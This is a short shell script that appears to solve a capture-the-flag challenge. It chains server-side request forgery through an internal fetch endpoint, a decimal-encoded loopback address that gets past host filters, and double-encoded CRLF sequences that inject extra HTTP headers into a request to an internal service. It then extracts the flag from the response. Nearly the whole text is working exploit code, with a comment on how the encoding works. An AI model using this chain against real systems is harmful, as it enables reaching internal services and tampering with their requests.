at='http://10.31.1.10:8080/fetch?url='
python3 "$(dirname "$0")/ask.py" "${at}http://holm.charts/outer"
python3 "$(dirname "$0")/ask.py" "${at}http://2130706433:8102/"
# %250d%250a: decoded once as part of the question, and again as part of the path.
python3 "$(dirname "$0")/ask.py" "${at}http://2130706433:8102/safe%2520HTTP/1.0%250d%250aX-Keeper:%2520on-watch%250d%250aX-Rest:%2520" | grep -o 'flag{[A-Za-z0-9]*}'
